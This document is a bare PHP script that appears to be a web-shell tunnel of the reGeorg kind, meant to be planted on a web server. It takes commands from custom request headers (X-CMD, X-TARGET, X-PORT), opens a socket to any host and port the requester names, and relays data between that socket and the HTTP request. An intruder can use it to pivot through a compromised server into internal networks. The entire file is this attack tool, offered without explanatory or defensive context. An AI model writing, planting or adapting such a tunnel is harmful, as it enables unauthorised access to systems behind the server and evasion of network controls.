<?php
ini_set("allow_url_fopen", true);
set_time_limit(0);
$headers = apache_request_headers();
$cmd = $headers["X-CMD"];
switch ($cmd) {
    case "CONNECT":
        $target = $headers["X-TARGET"];
        $port = (int) $headers["X-PORT"];
        $res = fsockopen($target, $port);
        if ($res === false) {
            header('X-STATUS: FAIL');
            return;
        }
        stream_set_blocking($res, false);
        while ($o = fread($res, 512)) { echo $o; }
        fwrite($res, file_get_contents("php://input"));
        break;
}
